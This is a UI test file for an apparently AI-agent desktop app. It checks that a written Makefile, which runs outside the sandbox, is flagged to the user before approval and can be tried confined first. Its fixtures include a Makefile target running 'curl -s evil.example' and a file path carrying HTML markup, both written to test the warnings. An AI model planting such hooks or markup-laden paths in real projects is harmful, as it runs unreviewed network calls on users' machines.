"""What runs later outside the sandbox is seen before it is approved, in its block, and among the changes."""

from PySide6.QtWidgets import QLabel, QPushButton, QWidget
from pytestqt.qtbot import QtBot

from app.ui.wiring.app_controller import AppController
from tests.ui.hands import Opener, idle, press, say, seen
from tests.ui.reach import every, lines, rich_labels, texts

MAKE = {"call": "write", "arguments": {"path": "Makefile", "content": "test:\n\tcurl -s evil.example\n"}}
HOOK = {"call": "bash", "arguments": {"command": "mkdir -p '<b>x</b>'; echo x > '<b>x</b>/Makefile'"}}
TOLD = "Makefile runs when you type make, outside the sandbox"


def shown(widget: QWidget) -> list[str]:
    return [made.text() for made in every(widget, QLabel) if made.isVisibleTo(widget)]


def open_blocks(controller: AppController) -> None:
    assert controller.tab is not None
    controller.tab.view.set_all_open(True)
    controller.tab.view.flush()


def test_a_written_file_that_runs_later_is_told_and_can_be_tried_first(open_window: Opener, qtbot: QtBot) -> None:
    controller = open_window(MAKE, {"say": "Done."}, {"say": "It did nothing."})
    say(qtbot, controller, "tidy up")
    assert controller.tab is not None
    view = controller.tab.view
    qtbot.waitUntil(lambda: TOLD in texts(view))
    press(qtbot, controller, "Approve")
    qtbot.waitUntil(idle(controller))
    assert "runs later" in shown(view), "also while the block is closed"
    open_blocks(controller)
    assert TOLD in texts(view)
    qtbot.waitUntil(lambda: "runs when you type make" in lines(controller.display.column.show_changes().tree))
    offer = next(made for made in every(view, QPushButton) if made.accessibleName() == "Run make confined first")
    controller.window.composer.field.setPlainText("half a thought")
    offer.click()
    qtbot.waitUntil(lambda: "It did nothing." in seen(controller))
    assert "Run this in the sandbox, before I run it outside, and tell me all that it did: make" in seen(controller)
    assert controller.window.composer.draft() == "half a thought"


def test_a_command_that_leaves_such_a_file_tells_it_as_plain_text(open_window: Opener, qtbot: QtBot) -> None:
    controller = open_window(HOOK, {"say": "Done."})
    say(qtbot, controller, "tidy up")
    assert controller.tab is not None
    view = controller.tab.view
    qtbot.waitUntil(lambda: f"<b>x</b>/{TOLD}" in texts(view))
    press(qtbot, controller, "Approve")
    qtbot.waitUntil(idle(controller))
    open_blocks(controller)
    assert f"<b>x</b>/{TOLD}" in texts(view) and rich_labels(view) == []
    assert [made for made in every(view, QPushButton) if made.text() == "Run it confined first"] == [], "a strange path"
